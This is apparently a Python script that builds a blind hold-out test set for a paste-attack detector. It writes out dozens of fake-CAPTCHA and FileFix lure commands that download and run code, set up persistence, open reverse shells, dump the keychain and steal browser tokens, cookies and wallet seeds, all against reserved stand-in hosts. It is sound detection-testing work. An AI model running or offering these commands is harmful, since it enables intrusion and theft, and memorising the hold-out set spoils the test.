"""BLIND-21: the twenty-first blind hold-out set of PasteGuard, written blind (README.md, "Blind-21").

Written by the helper "blind21" on 2026-12-07 from threat reports and the project's research note,
without reading the rules, the LOLBin catalogue, the trust list, app/detection (beyond the
PasteTarget values), any case file, any misses list or any verdict. Every lure is our own text on
reserved names (*.test, *.invalid, *.example, the documentation IP ranges, 555 phone numbers); the
own-page installers are real projects' documented install lines, found in public README files and
install-script headers (none of their owner/repo names or hosts in sets 1-20). Run it to rewrite
lures-21.jsonl and benign-21.jsonl; tests/test_blind_sets.py pins both byte for byte.
"""

from __future__ import annotations

from pathlib import Path

import blindkit as kit
from blindkit import (
    CON,
    EMSP,
    EXP,
    NBSP,
    OWN,
    RUN,
    TERM,
    UNK,
    Benign,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    cmd_slice,
    deflate_b64,
    esc_hex,
    gzip_b64,
    hex_str,
    ip_int,
    js_uni,
    ps_concat,
    ps_format,
    reverse,
    xor_b64,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-21.jsonl"
BENIGN_OUT = HERE / "benign-21.jsonl"
PREFIX = "blind21"

IDSP = "\u3000"
THSP = "\u2009"


def pad(n: int, ch: str = " ") -> str:
    return ch * n


# Verification tails the fake pages append after the command (what the victim sees in the box)
TAILS = [
    "# I am not a robot - reCAPTCHA Verification ID: 58213",
    "# ✅ Cloudflare Ray ID: 8e41c0a7d2f3 — human check passed",
    "# Verify you are human. Press Enter to continue",
    "# Je ne suis pas un robot - ID de vérification : 40918",
    "# Ich bin kein Roboter – Bestätigungs-ID 77120",
    "# No soy un robot - código de verificación 31175",
    "# Non sono un robot - ID verifica 66502",
    "# Nie jestem robotem – identyfikator 19044",
    "# Ben robot değilim - doğrulama kodu 52210",
    "# Я не робот — код проверки 83391",
    "# ロボットではありません 確認ID 24117",
    "# 我不是机器人 验证编号 70452",
    "# أنا لست روبوتًا - رمز التحقق 61830",
    "# Eu não sou um robô - ID de verificação 29573",
    "# Ik ben geen robot - verificatie-ID 44806",
    "# Microsoft Teams audio repair token 7Q-2291",
    "# Zoom Workplace codec restore • session 88-4410",
    "# Booking.com guest identity check – reservation 5521907",
    "# Google Meet: microphone driver reset (KB-20931)",
    "# DocuSign secure viewer unlock 3F9A-11",
]


def tail(i: int) -> str:
    return TAILS[i % len(TAILS)]


def build_lures() -> Lures:
    L = Lures()

    # ------------------------------------------------------------------------------------------
    # 1. Live fake-CAPTCHA / fake-error pages that imitate real services (Run dialog)
    # ------------------------------------------------------------------------------------------
    run_cmds = [
        ("mshta-url", 'mshta "https://cdn-trackline.test/v/9w1k.hta"'),
        ("mshta-url", "mshta.exe http://198.51.100.135/captcha/confirm.hta?t=4491"),
        ("mshta-url", "C:\\Windows\\SysWOW64\\mshta.exe https://ribbonfold.invalid/ok#verify"),
        ("ps-cradle", 'powershell -w h -nop -c "iex(irm https://lumenquay.test/r/a.ps1)"'),
        ("ps-cradle", 'powershell.exe -W Hidden -C "iwr -useb https://gravelbay.example/s | iex"'),
        ("ps-cradle", "pwsh -nop -w 1 -c \"$r=iwr 'https://pinecrest-mx.test/k';iex $r.Content\""),
        (
            "ps-cradle",
            "powershell -ep bypass -c \"(New-Object Net.WebClient).DownloadString('https://orbitmint.invalid/p')|iex\"",
        ),
        ("ps-cradle", 'powershell -c "irm 203.0.113.130/c.txt|iex"'),
        (
            "ps-outfile-start",
            'powershell -w h -c "iwr https://saltmarsh.test/upd.zip -OutFile $env:TEMP\\u.zip; Expand-Archive $env:TEMP\\u.zip $env:TEMP\\u -Force; start $env:TEMP\\u\\Setup.exe"',
        ),
        (
            "ps-outfile-start",
            'powershell -c "Start-BitsTransfer https://coldharbor.example/a.msi $env:PUBLIC\\a.msi; msiexec /i $env:PUBLIC\\a.msi /qn"',
        ),
        ("msiexec-url", "msiexec /i https://tallgrass-cdn.test/check/human.msi /qn"),
        ("msiexec-url", "msiexec.exe /q /package http://198.51.100.129/verify/0451"),
        ("msiexec-url", "MsIeXeC -i hTTps://wrenfield.invalid/session/validate /quiet"),
        (
            "rundll32-webdav",
            "rundll32.exe \\\\docsvault-cdn.test@SSL\\DavWWWRoot\\v\\chk.dll,Verify",
        ),
        ("rundll32-webdav", "rundll32 \\\\203.0.113.128@8443\\share\\cap.dll,#1"),
        ("regsvr32-remote", "regsvr32 /s /n /u /i:https://quartzline.example/s.sct scrobj.dll"),
        ("regsvr32-remote", "regsvr32.exe /s \\\\198.51.100.157\\pub\\mod.ocx"),
        (
            "conhost-headless",
            'conhost.exe --headless powershell -nop -c "iex(iwr https://tidewater-ops.test/h -UseB)"',
        ),
        (
            "conhost-headless",
            'conhost --headless cmd /c "curl -sLo %TEMP%\\k.cmd https://amberloop.invalid/k && %TEMP%\\k.cmd"',
        ),
        ("finger-stager", 'cmd /c "finger verify@203.0.113.135 | cmd"'),
        (
            "finger-stager",
            'cmd /c start "" /min cmd /c "for /f "skip=6 delims=" %a in (\'finger u7x@mossgate.test\') do call %a"',
        ),
        (
            "nslookup-stager",
            'cmd /c "for /f "tokens=1* delims=:" %a in (\'nslookup -q=txt go.quillhaven.test 198.51.100.165 ^| findstr ":"\') do %b"',
        ),
        (
            "nslookup-stager",
            'powershell -w h -c "iex (Resolve-DnsName -Type TXT -Server 203.0.113.131 t.bramblecore.example).Strings"',
        ),
        (
            "syncappv",
            'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;iex(irm https://hollowmere.test/z)"',
        ),
        (
            "syncappv",
            "SyncAppvPublishingServer.vbs \"x; (New-Object Net.WebClient).DownloadString('http://198.51.100.37/q') | iex\"",
        ),
        (
            "pcalua",
            'pcalua.exe -a powershell -c "-w h -c iwr https://larkspur-net.invalid/a.ps1|iex"',
        ),
        ("pcalua", "pcalua -a \\\\203.0.113.137\\drop\\update.exe"),
        (
            "net-use-webdav",
            "cmd /c net use Q: https://fernhollow.test/dav /persistent:no && Q:\\fix.cmd",
        ),
        ("net-use-webdav", 'cmd /c "pushd \\\\cobaltwynd.example@SSL\\dav & start /b run.bat"'),
        (
            "curl-wscript",
            'cmd /c "curl -s https://ironwillow.test/a.vbs -o %TEMP%\\a.vbs && wscript //B %TEMP%\\a.vbs"',
        ),
        (
            "curl-wscript",
            "cmd /c curl.exe -k -o %APPDATA%\\c.js https://198.51.100.138/c.js & cscript //nologo //e:jscript %APPDATA%\\c.js",
        ),
        (
            "certutil-stager",
            "cmd /c certutil -urlcache -split -f https://slatebridge.invalid/t.b64 %TEMP%\\t.b64 && certutil -decode %TEMP%\\t.b64 %TEMP%\\t.exe && %TEMP%\\t.exe",
        ),
        (
            "bitsadmin-stager",
            "cmd /c bitsadmin /transfer j /download /priority high https://marrowpeak.test/s.exe %TEMP%\\s.exe & start %TEMP%\\s.exe",
        ),
        (
            "forfiles-proxy",
            'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "powershell -w h iex(irm https://dunmore-relay.example/f)"',
        ),
        (
            "wmic-create",
            'wmic process call create "powershell -w h -c iex(irm https://tealbrook.invalid/w)"',
        ),
        ("hh-chm", "hh.exe https://glassfen.test/help/verify.chm"),
        ("explorer-hta", 'explorer.exe "https://copperdune.example/confirm.hta"'),
        (
            "esentutl-copy",
            "cmd /c esentutl.exe /y \\\\203.0.113.142\\s\\v.exe /d %TEMP%\\v.exe /o && %TEMP%\\v.exe",
        ),
        (
            "cmd-var-split",
            'cmd /v:on /c "set a=power&&set b=shell&&!a!!b! -w h -c iex(irm https://nettlebank.test/v)"',
        ),
        (
            "msbuild-remote",
            "cmd /c curl -so %TEMP%\\b.xml https://harrowgill-dl.invalid/b.xml & C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe %TEMP%\\b.xml",
        ),
        (
            "node-stager",
            'cmd /c "node -e \\"fetch(\'https://vellumrise.test/n.js\').then(r=>r.text()).then(eval)\\""',
        ),
        ("deno-stager", 'powershell -w h -c "deno run -A https://oakshadow.example/m.ts"'),
        (
            "python-stager",
            "cmd /c python -c \"import urllib.request as u;exec(u.urlopen('https://brackenfold.test/p.py').read())\"",
        ),
        ("cmstp-inf", "cmstp.exe /ni /s https://saffronhill.invalid/c.inf"),
        (
            "winget-source",
            'cmd /c "winget source add -n fix https://ashgrove-repo.test/ && winget install -s fix DriverRepair --accept-source-agreements"',
        ),
        (
            "ms-appinstaller",
            "ms-appinstaller:?source=https://kelpbright.example/Teams.appinstaller",
        ),
        (
            "ps-enc",
            "powershell -nop -w h -enc " + b64_utf16("iex(irm 'https://drumlin-ops.test/e')"),
        ),
        (
            "ps-b64-mixed",
            "POwErsHeLL -W 1 -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
            + b64("iwr https://moorcroft.invalid/x.ps1 -UseB | iex")
            + "'))|iex\"",
        ),
        (
            "ps-irm-property",
            'powershell -c "iex ((irm https://fallowmere.test/api/cfg).data.script)"',
        ),
        (
            "ps-clear-clipboard",
            "powershell -w h -c \"iex(irm https://peatmoss.example/s); Set-Clipboard -Value ' '\"",
        ),
    ]
    pages = [
        "https://cloudflare-verify.bookingsupport-desk.test/cdn-cgi/challenge",
        "https://recaptcha-check.shopfront-nl.example/verify",
        "https://login-microsoftonline.account-review.test/errors/0x80070643",
        "https://teams-meet.join-portal.invalid/l/meetup-join/19%3ameeting",
        "https://zoom-us.webinar-room.test/j/8841920011",
        "https://booking-com.guest-confirm.example/reservation/5521907",
        "https://meet-google.callroom.invalid/zqr-hwtb-kks",
        "https://docusign-envelope.sign-review.test/view/3f9a",
        "https://onedrive-share.filedesk.example/preview/Q3-report.xlsx",
        "https://challenges-cloudflare.edge-gateway.invalid/turnstile",
        "https://support-microsoft.helpcenter-kb.test/kb5036893",
        "https://chrome-update.browserfix.example/error/STATUS_BREAKPOINT",
        "https://steamcommunity-invite.gamerlink.test/lobby/4471",
        "https://youtube-premium.activate-code.invalid/free",
        "https://nvidia-driver.gpufix-center.test/geforce/error-43",
        "https://webex-join.confroom.example/meet/q4-sync",
        "https://outlook-live.mailbox-recover.test/quota",
        "https://linkedin-jobs.offer-portal.invalid/interview/video-check",
        "https://paypal-resolution.case-center.example/dispute/7741",
        "https://airbnb-host.listing-verify.test/host/verify",
        "https://adobe-acrobat.pdf-viewer.invalid/open/invoice_2291.pdf",
        "https://wetransfer-files.download-portal.test/d/8kq2",
        "https://dropbox-transfer.share-center.example/s/9xk2",
        "https://calendly-book.meeting-slot.invalid/intro-call",
        "https://bbc-news.article-reader.test/world/2026/article",
    ]
    for i, (tech, cmd) in enumerate(run_cmds):
        page = pages[i % len(pages)]
        style = i % 5
        if style == 0:
            text = cmd + pad(48) + tail(i)
        elif style == 1:
            text = cmd + pad(36, EMSP) + tail(i)
        elif style == 2:
            text = (
                cmd + " & rem " + tail(i).lstrip("# ")
                if not cmd.lower().startswith(("powershell", "pwsh"))
                else cmd + " ; " + tail(i)
            )
        elif style == 3:
            text = cmd + pad(60, NBSP) + tail(i)
        else:
            text = cmd
        L.lure(tech, RUN, page, text)

    # ------------------------------------------------------------------------------------------
    # 2. FileFix: Explorer's address bar, a command padded out of sight behind a fake file path
    # ------------------------------------------------------------------------------------------
    fake_paths = [
        "C:\\company\\HR\\2026\\Benefits_Enrollment.pdf",
        "\\\\fileserver\\Finance\\Q4\\Payroll_Adjustments.xlsx",
        "C:\\Users\\Public\\Documents\\Meeting_Notes_Board.docx",
        "D:\\Shared\\Legal\\NDA_Signed_Copy.pdf",
        "C:\\Corp\\IT\\Policies\\Acceptable_Use_2026.docx",
        "\\\\nas01\\Projects\\Tender\\Submission_Final.zip",
        "C:\\Booking\\Guest\\Reservation_5521907.pdf",
        "C:\\Zoom\\Recordings\\Webinar_Replay.mp4",
        "C:\\Teams\\Shared\\Q1_Forecast.pptx",
        "C:\\Drive\\Invoices\\INV-2026-0912.pdf",
    ]
    ff_cmds = [
        'powershell -w h -c "iex(irm https://hemlockcove.test/ff)"',
        "Powershell.exe -c \"$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','PowerShell');$w.DownloadString('http://203.0.113.117/f')|iex\"",
        'cmd /c "curl -s -o %TEMP%\\r.cmd https://wickerfen.invalid/r && %TEMP%\\r.cmd"',
        'powershell -ep bypass -c "iwr http://198.51.100.127/h.ps1 -UseBasicParsing|iex"',
        "mshta https://selkirk-docs.example/preview.hta",
        "powershell -c \"$c=gci \\\"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\\" -r|sls -Pattern 'QXJ0aWZhY3Q' -List|select -f 1;$b=[IO.File]::ReadAllText($c.Path);iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(($b -split 'QXJ0aWZhY3Q')[1])))\"",
        'powershell -w h -c "$p=\\"$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\";$f=gci $p|?{(gc $_.FullName -Raw) -match \'<<BEGIN>>(.+)<<END>>\'}|select -f 1;iex $matches[1]"',
        "rundll32 \\\\gorsebank.test@SSL\\DavWWWRoot\\docs\\viewer.dll,Open",
        "cmd /c net use * \\\\203.0.113.148\\docs & start \\\\203.0.113.148\\docs\\open.lnk",
        "powershell -w h -c \"Start-Process msiexec -ArgumentList '/i https://thistledown.invalid/v.msi /qn'\"",
        'conhost --headless powershell -w h -c "iex(irm https://marlowby.test/c)"',
        'powershell -nop -c "$x=(iwr https://brindle-img.example/logo.png -UseB).Content;$s=[Text.Encoding]::ASCII.GetString($x[4096..($x.Length-1)]);iex $s"',
        'cmd /c start /min "" powershell -w h iex(irm https://quillfen.invalid/x)',
        'pwsh -w h -c "irm https://rookwood-share.test/q|iex"',
        'powershell -c "iex(iwr -useb https://198.51.100.159/ff.txt)"',
        'cmd /c "finger doc@tamarisk-edge.example | cmd"',
        'powershell -w h -c "Add-Type -A System.Drawing;$b=[Drawing.Bitmap]::FromStream((iwr https://pebbleshore.test/p.png -UseB).RawContentStream);$o=foreach($y in 0..9){foreach($x in 0..199){$b.GetPixel($x,$y).R}};iex ([Text.Encoding]::ASCII.GetString([byte[]]$o).Trim([char]0))"',
        "explorer.exe \\\\203.0.113.121@SSL\\DavWWWRoot\\Documents\\Invoice.search-ms",
        "search-ms:query=Invoice&crumb=location:\\\\lichgate.invalid@SSL\\DavWWWRoot\\share&displayname=Downloads",
        'powershell -w h -c "iex(irm https://hazelrigg.test/upload)"',
        'cmd /c "curl -sL https://crowthorne.example/a.bat | cmd"',
        "powershell -c \"iex(New-Object Net.WebClient).DownloadString('https://mistholm.invalid/d')\"",
    ]
    ff_pages = [
        "https://sharepoint-docs.hrportal-online.test/sites/HR/Shared%20Documents",
        "https://onedrive-viewer.secure-files.example/open",
        "https://booking-partner.extranet-docs.invalid/invoice",
        "https://docs-google.filepreview.test/d/1xZ",
        "https://teams-files.workspace-share.example/channel/finance",
        "https://dropbox-docs.file-request.invalid/upload",
    ]
    for i, cmd in enumerate(ff_cmds):
        fp = fake_paths[i % len(fake_paths)]
        if i % 3 == 0:
            text = cmd + pad(120) + "# " + fp
        elif i % 3 == 1:
            text = cmd + pad(90, NBSP) + "#" + pad(3) + fp
        else:
            text = cmd + " " + pad(70, "\u2002") + "# " + fp
        if i in (18,):
            text = cmd
        L.lure("filefix-padding", EXP, ff_pages[i % len(ff_pages)], text)

    # ------------------------------------------------------------------------------------------
    # 3. Windows Terminal (Win+X, I): the 2026 shift away from the Run box, hex/XOR/char blobs
    # ------------------------------------------------------------------------------------------
    wt_url = "https://grisedale.test/t.ps1"
    wt = [
        (
            "wt-hex",
            f"$h='{hex_str('iex(irm ' + wt_url + ')')}';iex(-join($h -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt32($_,16)}}))",
        ),
        (
            "wt-xor",
            f"$k=0x2f;$d=@({xor_codes('iwr https://ambercliff.invalid/s|iex', 0x2F)});iex(-join($d|%{{[char]($_ -bxor $k)}}))",
        ),
        (
            "wt-charcodes",
            f"iex ([string]::Join('',([char[]]@({char_codes('irm http://198.51.100.145/w|iex')}))))",
        ),
        (
            "wt-b64",
            f"$s='{b64('iex(iwr https://scarrow.example/m -UseB)')}';iex([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($s)))",
        ),
        (
            "wt-deflate",
            f"iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{deflate_b64('iex(irm https://fenwick-ops.test/d)')}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
        ),
        (
            "wt-gzip",
            f"$z=[Convert]::FromBase64String('{gzip_b64('irm https://holloway-cdn.invalid/g|iex')}');$m=New-Object IO.MemoryStream(,$z);iex(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,'Decompress'))).ReadToEnd()",
        ),
        (
            "wt-xor-b64",
            f"$b=[Convert]::FromBase64String('{xor_b64('iex(irm https://corrie-net.example/x)', 0x5A)}');iex(-join($b|%{{[char]($_ -bxor 0x5a)}}))",
        ),
        (
            "wt-reverse",
            f"iex ((')' + '{reverse('iex(irm https://peverell.test/r')}')[-1..-200] -join '')",
        ),
        ("wt-format", f"iex ({ps_format('irm https://saltcote.invalid/f|iex')})"),
        ("wt-concat", f"&(gcm i*x) {ps_concat('irm https://dalesend.example/c')} | &(gal i?x)"),
        (
            "wt-admin-defender",
            "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://wetherby-dl.test/svc.exe -OutFile $env:APPDATA\\svc.exe; Start-Process $env:APPDATA\\svc.exe",
        ),
        (
            "wt-schtask",
            'schtasks /create /tn OneDriveSync /sc onlogon /tr "powershell -w h -c iex(irm https://cragside.invalid/p)" /f; schtasks /run /tn OneDriveSync',
        ),
        (
            "wt-runkey",
            "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Teams -Value 'mshta https://blackmoor.example/t.hta' -Force; mshta https://blackmoor.example/t.hta",
        ),
        (
            "wt-jsonp-chain",
            "$u='https://ravensworth.test/cfg.json';$j=irm $u;iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($j.payload)))",
        ),
        (
            "wt-uri-unescape",
            "iex ([Uri]::UnescapeDataString('%69%72%6d%20%68%74%74%70%73%3a%2f%2f%6c%6f%6e%67%6e%6f%72%2e%69%6e%76%61%6c%69%64%2f%75%7c%69%65%78'))",
        ),
    ]
    wt_pages = [
        "https://windows-update.repair-center.test/0x800f0922",
        "https://microsoft-store.app-fix.example/teams/audio",
        "https://zoom-support.meeting-fix.invalid/audio-device",
        "https://chatgpt-desktop.ai-install.test/windows",
        "https://copilot-pro.activate-now.example/trial",
    ]
    for i, (tech, text) in enumerate(wt):
        L.lure(tech, TERM, wt_pages[i % len(wt_pages)], text)

    # ------------------------------------------------------------------------------------------
    # 4. macOS Terminal lures (AMOS/Odyssey/MacSync shapes, fake Homebrew, fake AI installers)
    # ------------------------------------------------------------------------------------------
    mac = [
        (
            "macos-b64-bash",
            f"echo '{b64('curl -fsSL https://velvetcove.test/m.sh | bash')}' | base64 -d | bash",
        ),
        (
            "macos-b64-zsh",
            f'echo "{b64("curl -s http://198.51.100.146/a/rollo | nohup zsh &")}" | base64 -D | zsh',
        ),
        (
            "macos-gunzip",
            f"echo '{gzip_b64('curl -sL https://ferncastle.invalid/x | bash')}' | base64 -D | gunzip | sh",
        ),
        (
            "macos-bash-curl",
            '/bin/bash -c "$(curl -fsSL https://brew-sh.pkgmirror.test/install.sh)"',
        ),
        (
            "macos-osascript",
            'curl -ks --max-time 20 -A "Mozilla/5.0" "https://clayborne.example/applet?id=77c1" | osascript',
        ),
        (
            "macos-osascript",
            "osascript -e 'do shell script \"curl -s https://tarnhollow.test/p | sh\"'",
        ),
        (
            "macos-xattr-chain",
            "curl -so /tmp/MeetHelper https://pondlark.invalid/mh && xattr -c /tmp/MeetHelper && chmod +x /tmp/MeetHelper && /tmp/MeetHelper",
        ),
        (
            "macos-env-prefix",
            'export BUILD_ID=a91f export LANG_PACK=en_US curl -fsS "https://kestrelmoor.example/setup/9q2e.sh" | zsh',
        ),
        (
            "macos-dscl-sudo",
            'read -s -p \'Password: \' P; dscl . -authonly "$USER" "$P" && echo "$P" | sudo -S sh -c "curl -s https://moss-and-iron.test/i | sh"',
        ),
        (
            "macos-launchagent",
            "curl -so ~/Library/LaunchAgents/com.apple.audiofix.plist https://hartsome.invalid/la.plist && launchctl load ~/Library/LaunchAgents/com.apple.audiofix.plist",
        ),
        (
            "macos-dmg-open",
            "cd /tmp && curl -sLO https://gildenfall.test/ZoomFix.dmg && hdiutil attach -nobrowse ZoomFix.dmg && /Volumes/ZoomFix/Installer.app/Contents/MacOS/Installer",
        ),
        (
            "macos-python",
            "python3 -c \"import urllib.request as r;exec(r.urlopen('https://quayle-labs.example/v.py').read())\"",
        ),
        (
            "macos-spctl",
            "sudo spctl --master-disable; curl -sL https://wyrmstone.invalid/app.zip -o /tmp/a.zip && unzip -oq /tmp/a.zip -d /Applications && open /Applications/Helper.app",
        ),
        ("macos-hex", f"echo {hex_str('curl -s https://sedgefield.test/h|bash')} | xxd -r -p | sh"),
        (
            "macos-rev",
            f"echo '{reverse('curl -fsSL https://thornaby.example/r | bash')}' | rev | sh",
        ),
        (
            "macos-ai-install",
            "curl -fsSL https://claude-code.ai-cli.test/install.sh | bash   # Claude Code for macOS (official)",
        ),
        (
            "macos-ai-install",
            'sh -c "$(curl -fsSL https://openai-codex.devtools-cdn.invalid/install)"',
        ),
        (
            "macos-chatgpt-share",
            "curl -s https://mac-cleanup.diskcare.example/clean.sh | sudo bash  # frees 18 GB of system data",
        ),
        (
            "macos-homebrew-fake",
            '/bin/bash -c "$(curl -fsSL https://raw.homebrew-install.test/HEAD/install.sh)" && brew install --cask figma',
        ),
        (
            "macos-keychain",
            "security dump-keychain -d login.keychain-db > /tmp/k.txt; curl -s -F f=@/tmp/k.txt https://ashwell-drop.invalid/u",
        ),
        (
            "macos-fake-update",
            "softwareupdate --list; curl -fsSL http://203.0.113.127/macos-security-update.sh | sudo sh",
        ),
        (
            "macos-nohup",
            "nohup bash -c 'while :; do curl -s https://corbridge.test/beacon | bash; sleep 300; done' >/dev/null 2>&1 &",
        ),
        (
            "macos-perl",
            'perl -MIO::Socket -e \'$s=IO::Socket::INET->new("198.51.100.158:4444");open(STDIN,"<&",$s);open(STDOUT,">&",$s);exec("/bin/zsh -i")\'',
        ),
        (
            "macos-multistage",
            "mkdir -p ~/.cache/.fix && cd ~/.cache/.fix && curl -sO https://eastwold.example/stage1.sh && bash stage1.sh --silent",
        ),
    ]
    mac_pages = [
        "https://apple-support.icloud-verify.test/mac/repair",
        "https://github-security.repo-alert.example/advisory/verify",
        "https://homebrew-sh.package-install.invalid/",
        "https://zoom-mac.meeting-audio.test/fix",
        "https://claude-ai.code-download.example/mac",
        "https://chatgpt-share.prompt-hub.invalid/share/6f1e",
        "https://cloudflare-turnstile.verify-human.test/mac",
        "https://spotify-premium.free-unlock.example/mac",
    ]
    for i, (tech, text) in enumerate(mac):
        L.lure(tech, TERM, mac_pages[i % len(mac_pages)], text, platform="macos")

    # ------------------------------------------------------------------------------------------
    # 5. Linux terminal lures
    # ------------------------------------------------------------------------------------------
    lin = [
        ("linux-curl-sudo-bash", "curl -s http://203.0.113.173/install/agent.sh | sudo bash"),
        ("linux-wget-sh", "wget -qO- https://brackenridge.test/l.sh | sh -s -- --quiet"),
        (
            "linux-tmp-exec",
            "curl -s https://woolpack.invalid/assets/js/cfg.sh -o /tmp/.cfg && chmod +x /tmp/.cfg && /tmp/.cfg",
        ),
        (
            "linux-b64",
            f"echo {b64('wget -qO- https://lindale.example/x | bash')} | base64 -d | bash",
        ),
        (
            "linux-python",
            "python3 -c \"import os,urllib.request;os.system(urllib.request.urlopen('https://hexhamfold.test/c').read().decode())\"",
        ),
        ("linux-perl", "perl -e 'use LWP::Simple;eval(get(\"https://morwick.invalid/p.pl\"))'"),
        ("linux-devtcp", "bash -c 'exec 3<>/dev/tcp/198.51.100.136/8443; cat <&3 | bash >&3 2>&3'"),
        (
            "linux-crontab",
            "(crontab -l 2>/dev/null; echo '*/10 * * * * curl -s https://ravenglass.example/c | sh') | crontab -",
        ),
        (
            "linux-ssh-key",
            "mkdir -p ~/.ssh && curl -s https://bellingham-keys.test/k.pub >> ~/.ssh/authorized_keys",
        ),
        (
            "linux-systemd",
            "curl -so ~/.config/systemd/user/sync.service https://kirkstall.invalid/s.service && systemctl --user enable --now sync.service",
        ),
        (
            "linux-dns-txt",
            'eval "$(dig +short TXT boot.wharfedale.test @198.51.100.162 | tr -d \'\\"\')"',
        ),
        ("linux-nc", "curl -s https://tadcaster.example/n | bash -s 203.0.113.136 9001"),
        (
            "linux-steam-fix",
            "sudo sh -c 'curl -fsSL https://proton-fix.gamepatch.test/fix.sh | bash'  # fixes Steam error 0xc000007b",
        ),
        (
            "linux-xxd",
            f"echo {hex_str('curl -s https://beverley-cdn.invalid/h | sh')} | xxd -r -p | bash",
        ),
        (
            "linux-apt-key",
            "curl -s https://aptmirror-verify.test/key.gpg | sudo apt-key add - && echo 'deb http://203.0.113.126/ stable main' | sudo tee /etc/apt/sources.list.d/fix.list && sudo apt update && sudo apt install -y vpn-helper",
        ),
        (
            "linux-ld-preload",
            "curl -so /tmp/libfix.so https://goathland.example/l.so && echo /tmp/libfix.so | sudo tee -a /etc/ld.so.preload",
        ),
        ("linux-ai-install", "curl -fsSL https://gemini-cli.google-dev.test/install.sh | sh"),
        ("linux-docker-fake", "curl -sSL https://get-docker.container-install.invalid | sudo sh"),
    ]
    lin_pages = [
        "https://ubuntu-forum.answers-help.test/t/wifi-driver-fix",
        "https://cloudflare-check.dns-verify.example/linux",
        "https://discord-linux.voice-fix.invalid/",
        "https://github-actions.runner-setup.test/verify",
        "https://steam-support.proton-help.example/error",
    ]
    for i, (tech, text) in enumerate(lin):
        L.lure(tech, TERM, lin_pages[i % len(lin_pages)], text, platform="linux")

    # ------------------------------------------------------------------------------------------
    # 6. Browser console (self-XSS): Discord/Roblox/"verify", fetch-then-eval, atob, fromCharCode
    # ------------------------------------------------------------------------------------------
    con = [
        (
            "console-fetch-eval",
            "fetch('https://velmoor-static.test/v.js').then(r=>r.text()).then(eval)",
        ),
        (
            "console-atob",
            f"eval(atob('{b64('fetch(`https://crestwold.invalid/c?d=`+document.cookie)')}'))",
        ),
        (
            "console-fromcharcode",
            f"eval(String.fromCharCode({char_codes('new Image().src=`https://hurstmoor.example/l?t=`+localStorage.token')}))",
        ),
        (
            "console-discord-token",
            "(webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const m of Object.values(r.c))try{const t=m.exports.default.getToken();t&&fetch('https://nitro-gift.test/t',{method:'POST',body:t})}catch(e){}}]))",
        ),
        (
            "console-roblox",
            "fetch('https://rbx-bonus.invalid/claim',{method:'POST',credentials:'include',body:document.cookie})",
        ),
        (
            "console-script-inject",
            "var s=document.createElement('script');s.src='https://langdon-beck.example/m.js';document.head.appendChild(s)",
        ),
        ("console-getscript", "$.getScript('https://wrexley.test/x.js')"),
        (
            "console-function",
            "new Function(atob('"
            + b64("fetch('https://sorrelby.invalid/s').then(r=>r.text()).then(t=>eval(t))")
            + "'))()",
        ),
        (
            "console-bracket",
            "window['ev'+'al'](window['at'+'ob']('"
            + b64("import('https://oxenholme.example/a.mjs')")
            + "'))",
        ),
        (
            "console-unicode",
            f"eval('{js_uni('fetch(`https://kelderby.test/k`).then(r=>r.text()).then(eval)')}')",
        ),
        (
            "console-hex",
            f"eval('{esc_hex('location.href=`https://birtwhistle-cdn.invalid/?`+document.cookie')}')",
        ),
        (
            "console-javascript-url",
            "javascript:/*verify*/void(document.body.appendChild(document.createElement('script')).src='https://gildersome.example/b.js')",
        ),
        (
            "console-wallet",
            "fetch('https://airdrop-claim.test/api',{method:'POST',body:JSON.stringify({k:localStorage.getItem('wallet-seed')})})",
        ),
        ("console-import", "import('https://pontefract-cdn.invalid/esm/verify.js')"),
    ]
    con_pages = [
        "https://discord-verify.guild-gatekeeper.test/g/8812",
        "https://roblox-free.robux-claim.example/",
        "https://steam-gift.trade-offer.invalid/",
        "https://instagram-verify.badge-center.test/",
        "https://metamask-support.wallet-sync.example/",
    ]
    for i, (tech, text) in enumerate(con):
        L.lure(tech, CON, con_pages[i % len(con_pages)], text, platform="any")

    # ------------------------------------------------------------------------------------------
    # 7. Bare IOC commands (as a vendor IOC file or a report lists them: no page)
    # ------------------------------------------------------------------------------------------
    iocs = [
        (
            "ioc-mshta",
            'mshta.exe "hxxps://"'.replace("hxxps://", "https://kilnsey.test/lp/0c1.hta"),
        ),
        ("ioc-mshta", "mshta http://3325256708/q"),  # an address written as a decimal integer
        ("ioc-mshta", "mshta http://198.0x33.100.127/go.hta"),
        (
            "ioc-ps-cradle",
            "powershell -w h -c \"iex(iwr 'https://bolton-abbey.invalid/a' -UseBasicParsing)\"",
        ),
        (
            "ioc-ps-cradle",
            "PowerShell -NoP -NonI -W Hidden -Exec Bypass -C \"IEX (New-Object System.Net.WebClient).DownloadString('http://203.0.113.125:8080/a')\"",
        ),
        (
            "ioc-ps-cradle",
            "powershell -c \"$r=[Net.HttpWebRequest]::Create('https://malham.example/p');iex (New-Object IO.StreamReader($r.GetResponse().GetResponseStream())).ReadToEnd()\"",
        ),
        (
            "ioc-ps-httpclient",
            "powershell -c \"iex ((New-Object System.Net.Http.HttpClient).GetStringAsync('https://settle-cdn.test/h').Result)\"",
        ),
        (
            "ioc-ps-xmlhttp",
            "powershell -c \"$x=New-Object -Com Msxml2.XMLHTTP;$x.open('GET','https://gordale.invalid/x',0);$x.send();iex $x.responseText\"",
        ),
        (
            "ioc-ps-winhttp",
